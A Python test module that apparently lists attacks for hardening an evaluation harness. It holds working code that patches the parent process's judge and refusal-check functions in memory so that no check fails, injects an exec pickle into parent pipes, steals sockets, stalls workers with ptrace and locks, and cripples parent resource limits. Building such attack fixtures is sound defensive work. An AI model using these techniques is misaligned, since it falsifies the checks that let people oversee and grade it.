"""Attacks on the parent processes of the subject: their memory, descriptors, locks and limits."""

from support.attacks.attack import Attack, at_call, at_import

PATCH = '''
WRITE = "mem"

def read_memory(pid, address, size):
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        memory.seek(address)
        return memory.read(size)


def write_memory(pid, address, content):
    if WRITE == "mem":
        with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
            memory.seek(address)
            memory.write(content)
        return
    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
    buffer = ctypes.create_string_buffer(content, len(content))
    here, there = Vector(ctypes.addressof(buffer), len(content)), Vector(address, len(content))
    ctypes.CDLL(None).process_vm_writev(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)


def patch(code, by):
    """In every parent process, replace the first instructions of a function by the instructions of another function."""
    size = type(code).__basicsize__
    content = ctypes.string_at(id(by) + size, len(by.co_code))
    for pid in parents():
        with contextlib.suppress(OSError, OverflowError):
            if read_memory(pid, id(code) + 8, 8) == id(type(code)).to_bytes(8, "little"):
                write_memory(pid, id(code) + size, content)


def nothing_found(trial, check):
    return []


def no_problem(reaction, allowed):
    return {}


def passed(self):
    return not []


def patch_all():
    from crossent.checks import refusals
    from crossent.run import judge
    patch(judge._found.__code__, nothing_found.__code__)
    patch(refusals.judge_reaction.__code__, no_problem.__code__)

'''


def _memory(name: str, kind: str, sentence: str, source: str, **more: object) -> Attack:
    return Attack(name, kind, sentence, source, **more)  # type: ignore[arg-type]


STEAL = '''
def stolen(pid):
    """Return copies of the sockets of a process, made with pidfd_open and pidfd_getfd."""
    syscall, found = ctypes.CDLL(None, use_errno=True).syscall, []
    handle = syscall(434, pid, 0)
    for number in range(3, 64):
        copy = syscall(438, handle, number, 0)
        if copy >= 0:
            found.append((number, copy))
    return found

'''
MEMORY = [
    _memory(
        "writes_the_judge",
        "forged",
        "With /proc/PID/mem, patch the function that runs a check in every parent process: no check finds anything.",
        at_call("patch_all()").replace("\ndef loss", PATCH + "\ndef loss"),
    ),
    _memory(
        "writes_the_judge_by_a_call",
        "forged",
        "With the system call process_vm_writev, patch the function that runs a check in every parent process.",
        at_call("patch_all()").replace("\ndef loss", PATCH.replace('"mem"', '"vm"') + "\ndef loss"),
    ),
    _memory(
        "writes_the_command_at_import",
        "forged",
        "While the file is loaded, patch the function of the command that decides whether the report passes.",
        at_import(
            PATCH
            + """from crossent.report.report import Report
patch(Report.ok.fget.__code__, passed.__code__)
if not isolated():
    with contextlib.suppress(ImportError):
        patch_all()"""
        ),
    ),
    _memory(
        "sends_code_to_the_command",
        "forged",
        "Write a pickle that ends the command with status 0 into every pipe of the parent processes.",
        at_call("""
class Ends:
    def __reduce__(self):
        return exec, ("import os; os._exit(0)",)
content = pickle.dumps(Ends())
for pid in parents():
    for name in os.listdir(f"/proc/{pid}/fd"):
        path = f"/proc/{pid}/fd/{name}"
        with contextlib.suppress(OSError):
            if int(name) > 2 and os.readlink(path).startswith("pipe:"):
                pipe = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
                os.write(pipe, struct.pack("!i", len(content)) + content)
time.sleep(1)
"""),
    ),
    _memory(
        "announces_to_the_command",
        "stalls",
        "Announce a message of 2 GB in every pipe of the parent processes.",
        at_call("""
for pid in parents():
    for name in os.listdir(f"/proc/{pid}/fd"):
        path = f"/proc/{pid}/fd/{name}"
        with contextlib.suppress(OSError):
            if int(name) > 2 and os.readlink(path).startswith("pipe:"):
                pipe = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
                os.write(pipe, struct.pack("!i", 2**31 - 1))
"""),
    ),
    _memory(
        "takes_the_locks",
        "stalls",
        "Take the locks of the pool of workers, which are in memory that all processes share.",
        at_call("""
from multiprocessing.synchronize import SemLock
for one in gc.get_objects():
    if issubclass(type(one), SemLock):
        one.acquire(timeout=0.1)
"""),
    ),
    _memory(
        "steals_the_line_to_the_fork_server",
        "stalls",
        "Copy the sockets of the parent processes with pidfd_getfd, read the messages of the fork server, and exit.",
        at_call("""
def swallow(number):
    with contextlib.suppress(OSError):
        while os.read(number, 64):
            pass
if os.fork() == 0:
    os.setsid()
    for pid in parents()[1:]:
        for at, copy in stolen(pid):
            threading.Thread(target=swallow, args=(copy,), daemon=True).start()
    time.sleep(40)
    os._exit(0)
time.sleep(1)
os._exit(1)
""").replace("\ndef loss", STEAL + "\ndef loss"),
    ),
    _memory(
        "stops_the_worker_by_ptrace",
        "stalls",
        "Trace a parent process with ptrace, and interrupt it.",
        at_call("""
trace = ctypes.CDLL(None).ptrace
for pid in parents()[1:2]:
    trace(0x4206, pid, 0, 0)
    trace(0x4207, pid, 0, 0)
time.sleep(1000)
"""),
    ),
    _memory(
        "is_traced_when_it_ends",
        "stalls",
        "A child outside the group traces this process, so that no other process can wait for its end.",
        at_call("""
own = os.getpid()
if os.fork() == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    ctypes.CDLL(None).ptrace(0x4206, own, 0, 0)
    time.sleep(40)
    os._exit(0)
os.wait()
time.sleep(1)
os._exit(1)
"""),
    ),
    _memory(
        "limits_the_files_of_the_command",
        "lost",
        "Set the limit of open files of the parent processes to 0.",
        at_call("for pid in parents():\n    resource.prlimit(pid, resource.RLIMIT_NOFILE, (0, 0))"),
    ),
    _memory(
        "limits_the_time_of_the_command",
        "lost",
        "Set the limit of processor time of the parent processes to a second.",
        at_call("for pid in parents():\n    resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1))\ntime.sleep(2)"),
    ),
    _memory(
        "makes_the_output_immutable",
        "lost",
        "Mark the output file immutable, so that the main process cannot empty it.",
        at_call("""
import fcntl
print("x" * 10_000, flush=True)
for flag in (0x10, 0x20):
    with contextlib.suppress(OSError):
        fcntl.ioctl(1, 0x40086602, struct.pack("l", flag))
"""),
    ),
]
